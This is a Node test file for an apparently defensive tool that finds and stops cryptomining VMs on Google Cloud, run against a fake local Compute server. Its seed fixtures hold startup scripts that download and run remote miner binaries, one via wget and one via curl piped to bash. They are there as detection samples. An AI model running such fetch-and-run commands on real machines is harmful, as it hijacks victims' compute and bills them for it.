/**
 * The GCP connector with the real SDK (@google-cloud/compute, REST transport) against the fake Compute
 * server on 127.0.0.1 with a fake auth client: sweep of every zone (paging, an unreachable zone, a
 * forbidden project), stop / verify / undo through zone operations, delete.
 */
import { test, before, after, beforeEach } from "node:test";
import assert from "node:assert/strict";
import { loadIntel } from "../../../intel/index.js";
import { asPlanStep, testContext, testIncident } from "../test-context.js";
import { FakeCompute, type FakeInstance } from "./fake-compute-server.js";
import { createGcpClients, staticTokenAuth } from "./client.js";
import { gcpBackend } from "./vms.js";
import { deleteVmGcp, stopVmGcp } from "./actions.js";
import type { GcpClients } from "./types.js";

const TOKEN = "ya29.fake-token";
const intel = loadIntel();
let fake: FakeCompute;
let clients: GcpClients;

function seed(f: FakeCompute): void {
  const list: FakeInstance[] = [
    { project: "shop-prod", zone: "us-central1-a", name: "render-7", id: "4820375527813011001", machineType: "a2-highgpu-1g", status: "RUNNING",
      metadata: { "startup-script": "#!/bin/bash\nwget -q https://203.0.113.9/t-rex -O /opt/t\n/opt/t -a kawpow -o stratum+ssl://rvn.2miners.com:16060 -u RWallet.render7\n" },
      accelerators: [{ type: "nvidia-tesla-a100", count: 1 }] },
    { project: "shop-prod", zone: "asia-east1-c", name: "batch-x", id: "4820375527813011002", machineType: "n2-standard-96", status: "RUNNING",
      labels: { "created-by": "setup_c3pool_miner-sh" }, metadata: { "startup-script": "curl -s -L https://example.net/setup_c3pool_miner.sh | bash -s 4Abc" } },
    { project: "shop-prod", zone: "europe-west4-a", name: "train-1", id: "4820375527813011003", machineType: "g2-standard-8", status: "RUNNING",
      metadata: { "startup-script": "pip install jax" }, accelerators: [{ type: "nvidia-l4", count: 1 }] },
    { project: "shop-prod", zone: "us-central1-b", name: "web-1", id: "4820375527813011004", machineType: "e2-small", status: "RUNNING" },
  ];
  f.instances.splice(0, f.instances.length, ...list);
  f.forbidden.clear();
  f.forbidden.add("finance-prod");
  f.unreachableZone = "europe-west4-a";
}

before(async () => {
  fake = new FakeCompute(TOKEN);
  const { host, port } = await fake.listen();
  clients = createGcpClients({ projects: ["shop-prod", "finance-prod"], apiEndpoint: host, port, protocol: "http", authClient: staticTokenAuth(TOKEN) });
});
after(async () => {
  await clients.instances.close();
  await clients.zoneOperations.close();
  await fake.close();
});
beforeEach(() => { seed(fake); fake.requests.length = 0; });

test("the sweep reads every zone (pages followed), flags the miners, and reports the unreachable zone and the forbidden project", async () => {
  fake.unreachableZone = undefined;
  const all = await gcpBackend(clients).sweep(intel);
  assert.deepEqual(all.vms.map((v) => v.name).sort(), ["batch-x", "render-7", "train-1", "web-1"]);
  assert.deepEqual(all.suspicious.map((v) => v.name).sort(), ["batch-x", "render-7"]);
  assert.equal(fake.requests.filter((r) => r.path.endsWith("/aggregated/instances")).length, 3, "4 zones at 2 per page, plus the forbidden project's one call");
  const render = all.suspicious.find((v) => v.name === "render-7")!;
  assert.equal(render.id, "projects/shop-prod/zones/us-central1-a/instances/render-7");
  assert.equal(render.uid, "4820375527813011001");
  assert.equal(render.power, "running");
  assert.equal(render.gpu, true);
  assert.ok(render.signs.some((s) => s.kind === "pool-domain" && s.value === "rvn.2miners.com"));
  assert.ok(!all.suspicious.some((v) => v.name === "train-1"), "a GPU with an ML startup script is not a miner");
  assert.deepEqual(all.unreachable.map((u) => u.scope), ["project finance-prod"]);
  assert.match(all.unreachable[0]!.reason, /compute\.instances\.list/);

  fake.unreachableZone = "europe-west4-a";
  const partial = await gcpBackend(clients).sweep(intel);
  assert.ok(partial.unreachable.some((u) => u.scope === "shop-prod zones/europe-west4-a" && /UNREACHABLE/.test(u.reason)));
  assert.ok(!partial.vms.some((v) => v.name === "train-1"));
});

test("stop-vm-gcp stops the miners through zone operations, verifies TERMINATED, is idempotent and undoes by starting", async () => {
  const ctx = testContext({ gcp: clients });
  const planned = await stopVmGcp.plan({ incident: testIncident({}), findings: [], params: {}, mode: "terminate-now", checklistItem: "containment.stop-instance" }, ctx);
  assert.deepEqual(planned.map((s) => s.target.id.split("/").pop()).sort(), ["batch-x", "render-7"]);
  const render = planned.find((s) => s.target.id.endsWith("render-7"))!;
  assert.equal(render.usdPerHour, 3.67);
  assert.equal(render.target.region, "us-central1-a");
  assert.match(render.call, /^gcp POST http:\/\/127\.0\.0\.1:\d+\/compute\/v1\/projects\/shop-prod\/zones\/us-central1-a\/instances\/render-7\/stop/);
  const steps = planned.map((s) => asPlanStep("stop-vm-gcp", s));
  const kept: Record<string, unknown>[] = [];
  for (const step of steps) {
    assert.equal(await stopVmGcp.precondition(step, ctx), undefined);
    kept.push((await stopVmGcp.execute(step, ctx)).undo!);
    const v = await stopVmGcp.verify(step, ctx);
    assert.ok(v.ok, v.reason);
    assert.equal(v.observed["power"], "terminated");
  }
  assert.ok(fake.requests.some((r) => r.method === "POST" && r.path.endsWith("/wait")), "the zone operation was waited on");
  assert.equal(fake.instance("web-1")!.status, "RUNNING");
  assert.equal(fake.instance("train-1")!.status, "RUNNING");
  assert.deepEqual(await stopVmGcp.execute(steps[0]!, ctx), { detail: { alreadyStopped: "terminated" } });
  await stopVmGcp.undo!(steps[0]!, kept[0]! as Record<string, unknown>, ctx);
  assert.equal((await gcpBackend(clients).state({ id: steps[0]!.target.id, name: "", account: "", location: "" })).power, "running");
});

test("delete-vm-gcp deletes, verifies the instance is gone, and refuses protected projects", async () => {
  const ctx = testContext({ gcp: clients }, ["web-*"]);
  const planned = await deleteVmGcp.plan({ incident: testIncident({ instances: ["web-1"] }), findings: [], params: {}, mode: "terminate-now", checklistItem: "eradication.delete" }, ctx);
  const web = planned.find((s) => s.target.id.endsWith("web-1"))!;
  assert.match(web.refused!.reason.en, /protected/, "named by the incident, but protected");
  const batch = asPlanStep("delete-vm-gcp", planned.find((s) => s.target.id.endsWith("batch-x"))!);
  assert.equal(batch.risk, "destructive");
  await deleteVmGcp.execute(batch, ctx);
  assert.equal(fake.instance("batch-x"), undefined);
  const v = await deleteVmGcp.verify(batch, ctx);
  assert.ok(v.ok, v.reason);
  assert.deepEqual(await deleteVmGcp.execute(batch, ctx), { detail: { alreadyAbsent: true } });
});

test("plain http to a non-loopback endpoint is refused", () => {
  assert.throws(() => createGcpClients({ projects: ["p"], apiEndpoint: "compute.example.com", protocol: "http" }), /refusing plain http/);
});

test("the money at stake comes from the shipped price table (zone -> region)", async () => {
  const { loadPriceTable } = await import("../../prices.js");
  const ctx = { ...testContext({ gcp: clients }), prices: loadPriceTable() };
  const planned = await stopVmGcp.plan({ incident: testIncident({}), findings: [], params: {}, mode: "terminate-now", checklistItem: "containment.isolate" }, ctx);
  const render = planned.find((s) => s.target.id.endsWith("render-7"))!;
  assert.equal(render.usdPerHour, 3.6734, "a2-highgpu-1g in us-central1 (the zone us-central1-a's region)");
  assert.equal(render.stopsUsdPerHour, 3.6734);
});
